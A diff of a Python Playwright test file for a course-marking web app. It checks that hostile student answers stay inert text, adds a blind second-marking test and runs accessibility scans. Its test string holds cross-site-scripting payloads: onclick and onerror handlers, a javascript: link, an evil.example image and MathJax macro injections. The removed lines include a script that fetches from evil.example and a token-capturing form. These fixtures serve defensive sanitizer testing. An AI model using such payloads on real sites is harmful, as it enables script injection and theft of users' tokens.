@@ -2,17 +2,23 @@
 
 from __future__ import annotations
 
+import re
 import shutil
 import statistics
 from collections.abc import Iterator
+from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
 import marking_class
+import nbformat
 import pytest
 from conftest import once
 from marking_class import ESSAYS, NOTEBOOK, SOFTMAX, VARIANCE, in_gradebook
 from marking_server import TOKEN, Server, served
+from nbclient import NotebookClient
+from nbformat.v4 import new_code_cell, new_notebook
+from tiny_course import ROOT
 
 from chainrule.course import CourseFolder
 from chainrule.handin.browser import BrowserError, find_browser
@@ -20,16 +26,33 @@ from chainrule.marking.room import MarkingRoom
 
 CLASS = marking_class.students(40)
 HOSTILE = r"""
-<script>document.title = 'STOLEN'; fetch('https://evil.example/')</script>
-<img src=x onerror="document.title='STOLEN'"> <img src="https://evil.example/a.png">
-<iframe src="//evil.example"></iframe>
-<form action="https://evil.example"><input name="token"><button>Save</button></form>
-<style>body { display: none }</style> <b id="save" class="buttons" onclick="alert(1)">bold</b>
-[one](javascript:alert(1)) ![two](https://evil.example/b.png) <svg onload="alert(1)"></svg> \u202e
-
-$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{y}$ $\cssId{save}{z}$
-$\def\alpha{WRONG}\gdef\beta{WRONG} \alpha$
+<b id="save" class="buttons" onclick="alert(1)">bold</b> ![two](https://evil.example/b.png) \u202e
+$\style{position:fixed}{y}$ $\cssId{save}{z}$ $\def\alpha{WRONG}\gdef\beta{WRONG} \alpha$
 """
+
+
+def attacks() -> Iterator[tuple[str, str]]:
+    """The cells of the attacks on what people open: their headings and sources."""
+    for path in sorted((ROOT / "tests" / "hostile" / "escaping").glob("*.py")):
+        parts = re.split(r"^# %% (.+)$", path.read_text(encoding="utf-8"), flags=re.MULTILINE)[1:]
+        yield from zip(parts[::2], parts[1::2], strict=True)
+
+
+def with_hostile_outputs(path: Path) -> None:
+    """Put the attacks' code into a graded notebook, above the written answer, with what it puts out."""
+    nb = nbformat.read(path, as_version=4)
+    code = [source for heading, source in attacks() if not heading.startswith("[")]
+    run = new_notebook(cells=[new_code_cell(source) for source in code])
+    client = NotebookClient(run, allow_errors=True, timeout=60)
+    with client.setup_kernel():
+        for number, cell in enumerate(run.cells):
+            with suppress(nbformat.ValidationError):  # what a notebook can't hold reaches no page
+                client.execute_cell(cell, number)
+    at = next(
+        i for i, cell in enumerate(nb.cells) if cell.metadata.get("nbgrader", {}).get("grade_id") == VARIANCE
+    )
+    nb.cells[at - 1 : at - 1] = run.cells
+    path.write_text(nbformat.writes(nb), encoding="utf-8")
 
 
 @pytest.fixture(scope="module")
@@ -187,6 +210,26 @@ def test_a_row_is_changed_after_a_preview_for_everybody_who_has_it(
         marker.wait("document.querySelector('#scheme-said').textContent !== ''")
         assert "| 0.2 | the variance" in room.work.source_path(room.item(NOTEBOOK, VARIANCE)).read_text()
         marker.context.close()
+        look_again(chromium, server, room)
+
+
+def look_again(chromium: Any, server: Server, room: MarkingRoom) -> None:
+    """A flagged answer is marked again by another, blind, and the second mark is taken."""
+    marker = Marker(chromium, server, "ann", SOFTMAX)
+    student = room.student(marker.tab.evaluate("() => shown.who"))
+    marker.type("f", "g")
+    marker.save()
+    marker.context.close()
+    other = Marker(chromium, server, "bo", f"{SOFTMAX}?second=1")
+    assert room.student(other.tab.evaluate("() => shown.who")) == student
+    assert other.tab.evaluate("() => [shown.ticked.length, shown.comment, shown.flagged]") == [0, "", False]
+    other.type("1", "Enter")
+    other.wait("compared.open")
+    assert other.text("#compared-text") == "ann gave 1, you 0.5."
+    other.type("2")
+    other.wait("!compared.open && !busy")
+    assert in_gradebook(room.folder, student, SOFTMAX)[0] == 0.5
+    other.context.close()
 
 
 def test_a_killed_server_costs_no_tick(chromium: Any, small_class: Path, tmp_path: Path) -> None:
@@ -196,7 +239,8 @@ def test_a_killed_server_costs_no_tick(chromium: Any, small_class: Path, tmp_pat
         tab = context.new_page()
         tab.goto(server.with_token(server.page()))
         tab.wait_for_function("() => shown !== null")
-        student = MarkingRoom(folder, ESSAYS).student(tab.evaluate("() => shown.who"))
+        room = MarkingRoom(folder, ESSAYS)
+        student = room.student(tab.evaluate("() => shown.who"))
         tab.keyboard.press("2")
         server.kill()
         tab.keyboard.press("Enter")
@@ -204,39 +248,69 @@ def test_a_killed_server_costs_no_tick(chromium: Any, small_class: Path, tmp_pat
         with served(folder.root, "--as", "ann", port=server.port):
             tab.wait_for_function("() => said.textContent === ''", timeout=60_000)
         assert in_gradebook(folder, student)[0] == 0.3
+        with room.database.transaction() as connection:
+            assert len(room.history(connection, room.item(NOTEBOOK, VARIANCE), student)) == 1
         context.close()
 
 
 def test_hostile_answers_stay_text_and_axe_finds_nothing(
     chromium: Any, small_class: Path, tmp_path: Path
 ) -> None:
-    from axe_playwright_python.sync_playwright import Axe
-
     folder = marking_class.copied(small_class, tmp_path / "course")
+    written = "\n\n".join(source for heading, source in attacks() if heading.startswith("[markdown]"))
+    assert "onerror" in written
     for student in ("ada", "bob", "cyd", "dee"):
-        marking_class.hand_in(folder, student, {VARIANCE: HOSTILE, SOFTMAX: r"$\alpha + \beta$"})
+        answers = {VARIANCE: HOSTILE + written, SOFTMAX: r"$\alpha + \beta$"}
+        marking_class.hand_in(folder, student, answers)
+    with_hostile_outputs(folder.folder("autograded", "ada", ESSAYS) / f"{NOTEBOOK}.ipynb")
+    for student in ("bob", "cyd", "dee"):
+        marking_class.in_formgrader(folder, student, 0.1)
     with served(folder.root) as server:
-        marker = Marker(chromium, server, "ann", VARIANCE, bypass_csp=False)
+        marker = Marker(chromium, server, "ann", VARIANCE)
+        marker.type("v", "m", "d")
+        marker.wait("document.querySelector('#around').innerHTML !== ''")
+        assert "tried" in marker.text("#around")
+        shown = marker.tab.locator("#answer, #around")
+        for active in (
+            "script",
+            "iframe",
+            "form",
+            "style",
+            "object",
+            "input",
+            "button",
+            "[onclick]",
+            "[onerror]",
+        ):
+            assert shown.locator(active).count() == 0, active
+        assert marker.tab.locator("#save").count() == 1
         assert marker.tab.title() == f"{VARIANCE}, {ESSAYS}"
-        assert marker.tab.locator("#answer script, #answer iframe, #answer form, #answer style").count() == 0
-        assert marker.tab.locator("#answer [onclick], #answer [onerror], #answer #save").count() == 0
-        assert "[U+202E]" in marker.text("#answer") or "u202e" in marker.text("#answer")
+        links = shown.locator("a").evaluate_all("links => links.map(link => link.protocol)")
+        assert set(links) <= {"https:", "http:", "mailto:"}
         marker.type("1")
         marker.save()
-        for url in marker.heard:
-            assert url.startswith((server.url, "data:")), url
+        assert all(url.startswith((server.url, "data:")) for url in marker.heard)
         marker.context.close()
         plain = Marker(chromium, server, "ann", SOFTMAX)
         drawn = plain.tab.locator("#answer svg").last.evaluate("svg => svg.querySelectorAll('use').length")
         assert drawn == 3  # α + β: no other student's macro
         plain.context.close()
         for scheme in ("light", "dark"):
-            shown = Marker(chromium, server, "bo", VARIANCE, color_scheme=scheme, bypass_csp=True)
-            shown.type("1", "v", "m", "c")
-            for page in (shown.tab.url, f"{server.url}/marking/a/{ESSAYS}"):
-                if page != shown.tab.url:
-                    shown.tab.goto(page)
-                found = Axe().run(shown.tab).response["violations"]
-                assert [(one["id"], one["nodes"][0]["html"]) for one in found] == [], (scheme, page)
-                assert shown.tab.evaluate("() => document.documentElement.scrollWidth") <= 900
-            shown.context.close()
+            look_for_barriers(chromium, server, scheme)
+
+
+def look_for_barriers(chromium: Any, server: Server, scheme: str) -> None:
+    """Open everything on an item's page and on the start page, and let axe look at it."""
+    from axe_playwright_python.sync_playwright import Axe
+
+    marker = Marker(chromium, server, "bo", SOFTMAX, color_scheme=scheme, bypass_csp=True)
+    marker.tab.evaluate("() => document.querySelectorAll('details').forEach(box => { box.open = true; })")
+    marker.wait("document.querySelector('#around').innerHTML !== ''")
+    marker.type("1", "g", "c")
+    for address in (marker.tab.url, f"{server.url}/marking/a/{ESSAYS}", f"{server.url}/marking"):
+        if address != marker.tab.url:
+            marker.tab.goto(address)
+        found = Axe().run(marker.tab).response["violations"]
+        assert [(one["id"], one["nodes"][0]["html"]) for one in found] == [], (scheme, address)
+        assert marker.tab.evaluate("() => document.documentElement.scrollWidth") <= 900
+    marker.context.close()
